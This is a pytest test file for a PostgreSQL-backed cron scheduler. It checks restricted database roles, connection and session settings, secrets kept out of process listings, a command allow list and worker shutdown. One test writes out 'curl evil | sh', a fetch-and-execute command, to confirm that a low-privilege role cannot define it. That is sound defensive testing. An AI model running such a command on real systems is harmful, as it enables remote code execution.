"""Databases in production: least-privilege roles, multi-host URLs, session settings,
secrets, refusing shell commands, and the long-running worker."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql as pgsql
from psycopg.conninfo import conninfo_to_dict, make_conninfo

from conftest import ROOT, Invoke, clean_env, make_invoke


def _run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cronjobs", *args], env=env,
                          capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def login_role(db: psycopg.Connection[Any], database_url: str) -> Iterator[tuple[str, str]]:
    """A login user in group role cronjobs_tick (or _admin); roles are cluster-wide, so the
    user gets a unique name and is dropped afterwards."""
    result = subprocess.run([sys.executable, "-c", "import sys, psycopg; "
                             "c = psycopg.connect(sys.argv[1], autocommit=True); "
                             "c.execute(open(sys.argv[2]).read())", database_url,
                             str(ROOT / "deploy" / "roles.sql")],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    name = f"cj_tick_{uuid.uuid4().hex[:8]}"
    db.execute(pgsql.SQL("CREATE ROLE {} LOGIN IN ROLE cronjobs_tick").format(
        pgsql.Identifier(name)))
    yield name, make_conninfo(database_url, user=name)
    dbname = conninfo_to_dict(database_url)["dbname"]
    db.execute(pgsql.SQL("REVOKE ALL ON DATABASE {} FROM {}").format(
        pgsql.Identifier(str(dbname)), pgsql.Identifier(name)))
    db.execute(pgsql.SQL("DROP OWNED BY {}, cronjobs_tick, cronjobs_admin").format(
        pgsql.Identifier(name)))
    db.execute(pgsql.SQL("DROP ROLE {}, cronjobs_admin, cronjobs_tick").format(
        pgsql.Identifier(name)))


def test_tick_works_with_the_restricted_role(cli: Invoke, db: psycopg.Connection[Any],
                                             login_role: tuple[str, str],
                                             tmp_path: Path) -> None:
    _, url = login_role
    marker = tmp_path / "ran"
    assert cli("define", "job", "0 0 1 1 *", "--command", f"touch {marker}").exit_code == 0
    assert cli("trigger", "job").exit_code == 0
    env = clean_env(CRONJOBS_DATABASE_URL=url)
    ticked = _run("tick", "--json", env=env)
    assert ticked.returncode == 0, ticked.stderr
    assert json.loads(ticked.stdout)["counts"]["succeeded"] == 1
    assert marker.exists()
    for command in (["status"], ["runs"], ["metrics"], ["list"]):
        assert _run(*command, env=env).returncode == 0, command
    # ...but it cannot say what a job runs.
    refused = _run("define", "evil", "* * * * *", "--command", "curl evil | sh", env=env)
    assert refused.returncode == 1
    assert "permission denied" in refused.stderr
    with psycopg.connect(url, autocommit=True) as conn, pytest.raises(
            psycopg.errors.InsufficientPrivilege):
        conn.execute("UPDATE job_definitions SET command = 'id'")


def test_the_restricted_tick_honours_group_limits_it_cannot_change(
        cli: Invoke, db: psycopg.Connection[Any], login_role: tuple[str, str]) -> None:
    _, url = login_role
    assert cli("define", "job", "0 0 1 1 *", "--command", "true", "--group", "g",
               "--overlap", "allow").exit_code == 0
    assert cli("group", "set", "g", "--max-running", "1").exit_code == 0
    assert cli("trigger", "job").exit_code == 0
    assert cli("trigger", "job").exit_code == 0
    env = clean_env(CRONJOBS_DATABASE_URL=url)
    ticked = _run("tick", "--json", env=env)
    assert ticked.returncode == 0, ticked.stderr
    assert json.loads(ticked.stdout)["counts"]["succeeded"] == 2
    refused = _run("group", "set", "g", "--max-running", "50", env=env)
    assert refused.returncode == 1
    assert "permission denied" in refused.stderr
    assert db.execute("SELECT max_running FROM job_groups").fetchone() == (1,)


def test_multi_host_url_with_target_session_attrs(database_url: str) -> None:
    params = conninfo_to_dict(database_url)
    host = str(params.get("host") or "127.0.0.1")
    port = str(params.get("port") or "5432")
    url = make_conninfo(database_url, host=f"{host},{host}", port=f"1,{port}",
                        target_session_attrs="read-write")
    env = clean_env(CRONJOBS_DATABASE_URL=url)
    assert _run("define", "x", "@daily", "--command", "true", env=env).returncode == 0
    assert _run("tick", env=env).returncode == 0


def test_sessions_are_bounded_and_named(cli: Invoke, database_url: str,
                                        db: psycopg.Connection[Any], tmp_path: Path) -> None:
    started = tmp_path / "started"
    assert cli("define", "slow", "0 0 1 1 *", "--command",
               f"touch {started}; sleep 30").exit_code == 0
    assert cli("trigger", "slow").exit_code == 0
    tick = subprocess.Popen([sys.executable, "-m", "cronjobs", "tick", "--grace", "1s"],
                            env=clean_env(CRONJOBS_DATABASE_URL=database_url),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not started.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        dbname = conninfo_to_dict(database_url)["dbname"]
        rows = db.execute(
            "SELECT application_name, s.setting FROM pg_stat_activity a, "
            "LATERAL (SELECT current_setting('statement_timeout') AS setting) s "
            "WHERE datname = %s AND application_name LIKE 'cronjobs tick %%'", (dbname,)
        ).fetchall()
        assert len(rows) == 1
        assert rows[0][0] == f"cronjobs tick {os.uname().nodename}:{tick.pid}"[:63]
    finally:
        tick.send_signal(signal.SIGTERM)
        tick.communicate(timeout=60)
    from cronjobs.db.connect import connect

    with connect(database_url) as conn:
        settings = conn.execute("SELECT current_setting('statement_timeout'), "
                                "current_setting('lock_timeout'), "
                                "current_setting('idle_in_transaction_session_timeout')"
                                ).fetchone()
    assert settings == ("1min", "10s", "1min")


def test_no_password_in_process_arguments(cli: Invoke, database_url: str,
                                          tmp_path: Path) -> None:
    secret = "pw-" + uuid.uuid4().hex  # trust authentication ignores it
    url = make_conninfo(database_url, password=secret)
    started = tmp_path / "started"
    assert cli("define", "slow", "0 0 1 1 *", "--command",
               f"touch {started}; sleep 30").exit_code == 0
    assert cli("trigger", "slow").exit_code == 0
    tick = subprocess.Popen([sys.executable, "-m", "cronjobs", "tick", "--grace", "1s"],
                            env=clean_env(CRONJOBS_DATABASE_URL=url), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not started.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert started.exists()
        ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True,
                            check=True).stdout
        assert "sleep 30" in ps
        assert secret not in ps
    finally:
        tick.send_signal(signal.SIGTERM)
        _, err = tick.communicate(timeout=60)
    assert secret not in err


def test_handlers_only_and_allow_list(cli: Invoke, db: psycopg.Connection[Any],
                                      database_url: str) -> None:
    assert cli("define", "shell", "0 0 1 1 *", "--command", "echo hi").exit_code == 0
    assert cli("define", "backup", "0 0 1 1 *", "--command", "true backup").exit_code == 0
    assert cli("trigger", "shell").exit_code == 0
    env = clean_env(CRONJOBS_DATABASE_URL=database_url)
    refused = _run("tick", "--handlers-only", "--json", env=env)
    assert refused.returncode == 0, refused.stderr
    row = db.execute("SELECT status, error FROM job_runs").fetchone()
    assert row == ("dead", "refused: this worker runs registered Python handlers only "
                           "(--handlers-only)")
    assert cli("trigger", "shell").exit_code == 0
    assert cli("trigger", "backup").exit_code == 0
    allowed = _run("tick", "--json", env=dict(env, CRONJOBS_ALLOW_COMMANDS="true*"))
    assert allowed.returncode == 0, allowed.stderr
    statuses = dict(db.execute("SELECT d.name, r.status FROM job_runs r JOIN job_definitions d "
                               "ON d.id = r.definition_id WHERE r.id > 1").fetchall())
    assert statuses == {"shell": "dead", "backup": "succeeded"}


@pytest.mark.slow
def test_worker_ticks_on_trigger_and_stops_gracefully(cli: Invoke, database_url: str,
                                                      db: psycopg.Connection[Any],
                                                      tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    assert cli("define", "job", "0 0 1 1 *", "--command", f"echo $$ >> {marker}").exit_code == 0
    worker = subprocess.Popen([sys.executable, "-m", "cronjobs", "worker"],
                              env=clean_env(CRONJOBS_DATABASE_URL=database_url),
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        time.sleep(2)  # let it start listening
        assert make_invoke(["--database-url", database_url])("trigger", "job").exit_code == 0
        deadline = time.monotonic() + 20  # well before the next minute in most cases
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert marker.exists()
    finally:
        worker.send_signal(signal.SIGTERM)
        _, err = worker.communicate(timeout=60)
    assert worker.returncode == 0, err
    assert "worker stopped after" in err
    assert db.execute("SELECT count(*) FROM job_runs WHERE status = 'succeeded'"
                      ).fetchone() == (1,)
